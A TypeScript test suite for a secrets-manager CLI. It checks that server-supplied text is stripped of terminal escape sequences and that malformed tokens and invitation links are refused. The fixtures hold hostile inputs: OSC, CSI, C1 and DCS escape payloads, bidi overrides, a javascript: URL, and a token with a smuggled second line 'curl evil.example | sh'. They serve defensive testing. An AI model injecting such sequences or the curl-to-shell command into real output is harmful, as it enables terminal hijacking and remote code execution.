// Issue 8 §8: names and descriptions come from the server and are printed on the user's terminal, where an
// escape sequence acts instead of showing. The real CLI against the live server prints them without any.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import type { AuditEvent } from '../../core/api-types.ts';
import { stripTerminalControls } from '../../core/terminal-text.ts';
import { startScriptedServer, type ScriptedServer } from '../core/support/scripted-server.ts';
import { clientFor, startFixture, type Fixture } from './fixture.ts';
import { ensureBuilt, freshHome, secrets, startSecrets, type CliOptions } from './run-cli.ts';

// What a hostile Editor or Admin could store: retitle the window (OSC 0, BEL-terminated), write the
// clipboard (OSC 52, ST-terminated), clear the screen and home the cursor (CSI), ring the bell, the 8-bit
// C1 CSI, a DCS string, a terminal reset (ESC c), a bidi override and a carriage return that would
// let the rest of the line overwrite its start.
const HOSTILE = [
  'Rotate yearly',
  '\u001b]0;pwned-title\u0007',
  '\u001b]52;c;cHduZWQ=\u001b\\',
  '\u001b[2J\u001b[H',
  '\u0007',
  '\u009b31m',
  '\u001bPq#0;2;0;0;0\u001b\\',
  '\u001bc',
  '\u202eevil\u202c',
  '\rfake prompt $',
].join(' ');
// Anything a terminal acts on: C0 but the line feeds that end rows, DEL, C1, bidi overrides.
const ACTS_ON_TERMINAL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('secrets CLI output carries no terminal control sequences from the server (live server)', function () {
  let fx: Fixture;
  let as: (extra?: Record<string, string>) => CliOptions;
  let memberToken: string;

  before(async function () {
    this.timeout(60_000);
    await ensureBuilt();
    fx = await startFixture('term');
    await fx.admin.createSecret(fx.org, 'production', { key: 'ROTATED_KEY', value: 'terminal-canary-value-1e9a', description: HOSTILE });
    await fx.admin.createEnvironment(fx.org, { slug: 'hostile', name: `Hostile \u001b]0;env-title\u0007\u001b[2J env` });
    const member = await fx.admin.createUser({ name: `Mallory \u001b]0;user-title\u0007\u009b2J`, email: 'mallory@example.com' });
    await fx.admin.putMember(fx.org, member.user.id, 'editor');
    memberToken = member.token;
    const asMember = clientFor(fx.url, memberToken);
    try {
      await asMember.updateSecret(fx.org, 'production', 'ROTATED_KEY', { description: HOSTILE + ' (edited)' });
    } finally {
      await asMember.close();
    }
    const base = { SECRETS_URL: fx.url, SECRETS_TOKEN: fx.adminToken, SECRETS_ORG: fx.org, SECRETS_ENV: 'production', ...freshHome() };
    as = (extra = {}) => ({ env: { ...base, ...extra } });
  });
  after(async () => fx?.close());

  function clean(out: string, what: string): void {
    const hit = ACTS_ON_TERMINAL.exec(out);
    assert.equal(hit, null, `${what} printed ${JSON.stringify(hit?.[0])}: ${JSON.stringify(out)}`);
  }

  it('secrets ls prints the description (and who updated it) without OSC, CSI, BEL, C1 CSI, DCS or bidi overrides', async () => {
    const r = await secrets(['ls'], as());
    assert.equal(r.code, 0, r.stderr);
    clean(r.stdout + r.stderr, 'ls');
    assert.match(r.stdout, /ROTATED_KEY .*Mallory .*Rotate yearly/);
    assert.ok(!r.stdout.includes('pwned-title') && !r.stdout.includes('cHduZWQ='), 'the payload of a control string goes with it');
  });

  it('secrets envs and whoami print server-provided names without control sequences', async () => {
    const envs = await secrets(['envs'], as());
    assert.equal(envs.code, 0, envs.stderr);
    clean(envs.stdout, 'envs');
    assert.match(envs.stdout, /hostile +Hostile +env/);
    const who = await secrets(['whoami'], as({ SECRETS_TOKEN: memberToken }));
    assert.equal(who.code, 0, who.stderr);
    clean(who.stdout, 'whoami');
    assert.match(who.stdout, /^Mallory +<mallory@example.com> on /);
  });

  it('--json keeps the exact text, escaped by JSON, for scripts', async () => {
    const r = await secrets(['ls', '--json'], as());
    assert.equal(r.code, 0, r.stderr);
    clean(r.stdout, 'ls --json');
    const [meta] = JSON.parse(r.stdout) as { description: string }[];
    assert.equal(meta!.description, HOSTILE + ' (edited)');
  });

  it('secrets oidc-policies test prints the server’s explanation without the C1 CSI a condition holds or the bidi overrides and line separator a claim holds (JSON quoting leaves them)', async () => {
    await fx.admin.createOidcPolicy(fx.org, { name: 'deploy', audience: 'https://secrets.example.test', environment: 'production', claims: { repository: 'acme/app' } });
    // What a workflow's token (or a pasted claim) could hold: JSON.stringify quotes it, but escapes only C0.
    const r = await secrets(['oidc-policies', 'test', 'deploy', 'repository=acme/\u009b2J\u202eppa\u2066x\u2028y'], as());
    assert.equal(r.code, 0, r.stderr);
    clean(r.stdout + r.stderr, 'oidc-policies test');
    assert.equal(r.stdout, '✗ repository must be "acme/app", the token says "acme/?2Jppax y"\n');
    // A condition an Admin stored with an 8-bit CSI is quoted back raw by the server.
    await fx.admin.createOidcPolicy(fx.org, { name: 'release', audience: 'https://secrets.example.test', environment: 'production', claims: { repository: 'acme/app', ref: 'refs/heads/\u009b2J\u009b0;0Hmain' } });
    const c1 = await secrets(['oidc-policies', 'test', 'release', 'repository=acme/app', 'ref=refs/heads/main'], as());
    assert.equal(c1.code, 0, c1.stderr);
    clean(c1.stdout + c1.stderr, 'oidc-policies test (C1 in the condition)');
    assert.equal(c1.stdout, '✗ ref must be "refs/heads/main", the token says "refs/heads/main"\n✓ repository is "acme/app", as required\n');
  });

  it('secrets audit --follow --json escapes C1 controls in an actor’s name, one event per line', async function () {
    this.timeout(30_000);
    const child = startSecrets(['audit', '--follow', '--json', '--action', 'secret.update', '--limit', '1', '--interval', '200ms'], as());
    let out = '';
    child.stdout!.setEncoding('utf8').on('data', (d: string) => (out += d));
    try {
      for (let i = 0; i < 300 && !out.includes('\n'); i++) await new Promise((r) => setTimeout(r, 50));
    } finally {
      child.kill('SIGINT');
      await once(child, 'close');
    }
    clean(out, 'audit --follow --json');
    const lines = out.split('\n').filter(Boolean);
    assert.equal(lines.length, 1, out);
    const event = JSON.parse(lines[0]!) as AuditEvent;
    assert.equal(event.actor.name, `Mallory \u001b]0;user-title\u0007\u009b2J`);
    assert.ok(lines[0]!.includes('\\u009b'), 'the C1 CSI is escaped, so the line stays the same JSON value');
  });

  it('stripTerminalControls keeps printable text of any script and turns tabs and line breaks into spaces', () => {
    assert.equal(stripTerminalControls('Grüße 日本 🔑\tnext\r\nline'), 'Grüße 日本 🔑 next  line');
    assert.equal(stripTerminalControls('a\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\b'), 'alinkb');
    assert.equal(stripTerminalControls('unterminated \u001b]0;title'), 'unterminated ');
    assert.equal(stripTerminalControls('x\u001b[38;5;196my\u001b(Bz\u009dhidden\u009c!'), 'xyz!');
  });
});

// A token or invitation link is printed alone on stdout to be piped: stripping would hand on a different
// string, so anything but the shape our server issues is refused (exit 11, nothing on stdout). Only a
// hostile or broken server sends such an answer, so a scripted responder plays it.
describe('secrets CLI refuses a token or invitation link that is not the shape the server issues (a hostile server)', function () {
  this.timeout(30_000);
  const GOOD_BODY = 'A'.repeat(43);
  let server: ScriptedServer | undefined;
  afterEach(async () => {
    await server?.close();
    server = undefined;
  });
  before(ensureBuilt);

  async function against(body: unknown, args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
    server = await startScriptedServer([{ status: 201, body }]);
    const r = await secrets(args, { env: { SECRETS_URL: server.url, SECRETS_TOKEN: `scrt_pat_${'B'.repeat(43)}`, SECRETS_ORG: 'acme', ...freshHome() } });
    return r;
  }
  const hostileTokens = (prefix: string) => [
    `${prefix}${GOOD_BODY}\u001b]0;pwned-title\u0007`,
    `${prefix}${GOOD_BODY}\u009b2J`,
    `${prefix}${GOOD_BODY}\ncurl evil.example | sh`,
    `${prefix}${GOOD_BODY} `,
    `scrt_pat_${GOOD_BODY}`.replace('scrt_pat_', prefix === 'scrt_pat_' ? 'scrt_svc_' : 'scrt_pat_'),
    '',
  ];

  for (const json of [false, true]) {
    it(`secrets tokens create${json ? ' --json' : ''} prints nothing for a token with an escape sequence, C1 CSI, a second line, a space or the wrong prefix, and says which id to revoke`, async () => {
      for (const token of hostileTokens('scrt_svc_')) {
        const created = { id: 'tok-7f3a', name: 'ci', environment: 'production', workspace: null, createdAt: '2026-01-01T00:00:00Z', createdBy: 'Admin', expiresAt: null, lastUsedAt: null, token };
        const r = await against(created, ['tokens', 'create', '--env', 'production', '--name', 'ci', ...(json ? ['--json'] : [])]);
        assert.equal(r.code, 11, `${JSON.stringify(token)}: ${r.stderr}`);
        assert.equal(r.stdout, '', JSON.stringify(token));
        assert.equal(r.stderr, "secrets: The server's answer holds no well-formed service token, so nothing is printed; revoke what was created with `secrets tokens revoke tok-7f3a`\n");
        await server!.close();
        server = undefined;
      }
    });
  }

  it('with SECRETS_DEBUG the refusal\'s stack trace acts on the terminal no more than its message does (the id it names comes from the server)', async () => {
    server = await startScriptedServer([{ status: 201, body: { id: 'tok-\u001b]0;pwned\u0007\u009b2J', name: 'ci', environment: 'production', workspace: null, createdAt: '2026-01-01T00:00:00Z', createdBy: 'Admin', expiresAt: null, lastUsedAt: null, token: 'not-a-token' } }]);
    const r = await secrets(['tokens', 'create', '--env', 'production', '--name', 'ci'], {
      env: { SECRETS_URL: server.url, SECRETS_TOKEN: `scrt_pat_${'B'.repeat(43)}`, SECRETS_ORG: 'acme', SECRETS_DEBUG: '1', ...freshHome() },
    });
    assert.equal(r.code, 11, r.stderr);
    assert.match(r.stderr, /\n {4}at /, 'the stack is printed, one frame per line');
    assert.doesNotMatch(r.stderr, /[\u001b\u0007\u009b]/, 'no ESC, BEL or C1 CSI on stderr');
  });

  it('secrets users create prints nothing for a personal token that is not the issued shape', async () => {
    for (const token of hostileTokens('scrt_pat_')) {
      const r = await against({ user: { id: 'user-91c2', name: 'Una', email: 'una@example.com' }, token }, ['users', 'create', '--name', 'Una', '--email', 'una@example.com']);
      assert.equal(r.code, 11, `${JSON.stringify(token)}: ${r.stderr}`);
      assert.equal(r.stdout, '');
      assert.equal(r.stderr, "secrets: The server's answer holds no well-formed personal token, so nothing is printed; user user-91c2 was created without a token you can use\n");
      await server!.close();
      server = undefined;
    }
  });

  it('secrets invite prints nothing for a link with a control character, a query, credentials, another scheme or no invitation secret, and prints a well-formed one as issued', async () => {
    const secret = `scrt_inv_${'C'.repeat(43)}`;
    const hostile = [
      `https://secrets.example/invite#${secret}\u001b]0;pwned\u0007`,
      `https://secrets.example/invite#${secret}\u009b2J`,
      `https://secrets.example/invite#${secret}\nsecond line`,
      `https://secrets.example/invite\u202e#${secret}`,
      `https://secrets.example/invite?next=evil#${secret}`,
      `https://user:pw@secrets.example/invite#${secret}`,
      `javascript:alert(1)//invite#${secret}`,
      `https://secrets.example/elsewhere#${secret}`,
      `https://secrets.example/invite#not-an-invitation`,
      `HTTPS://secrets.example/invite#${secret}`,
    ];
    const invitation = (url: string) => ({ id: 'inv-2b8e', email: 'ivy@example.com', role: 'editor', createdAt: '2026-01-01T00:00:00Z', createdBy: 'Admin', expiresAt: '2026-01-08T00:00:00Z', url });
    for (const url of hostile) {
      const r = await against(invitation(url), ['invite', 'ivy@example.com', '--role', 'editor']);
      assert.equal(r.code, 11, `${JSON.stringify(url)}: ${r.stderr}`);
      assert.equal(r.stdout, '', JSON.stringify(url));
      assert.equal(r.stderr, "secrets: The server's answer holds no well-formed invitation link, so nothing is printed; revoke what was created with `secrets invitations revoke inv-2b8e`\n");
      await server!.close();
      server = undefined;
    }
    const ok = await against(invitation(`https://secrets.example/base/invite#${secret}`), ['invite', 'ivy@example.com', '--role', 'editor']);
    assert.equal(ok.code, 0, ok.stderr);
    assert.equal(ok.stdout, `https://secrets.example/base/invite#${secret}\n`);
  });
});
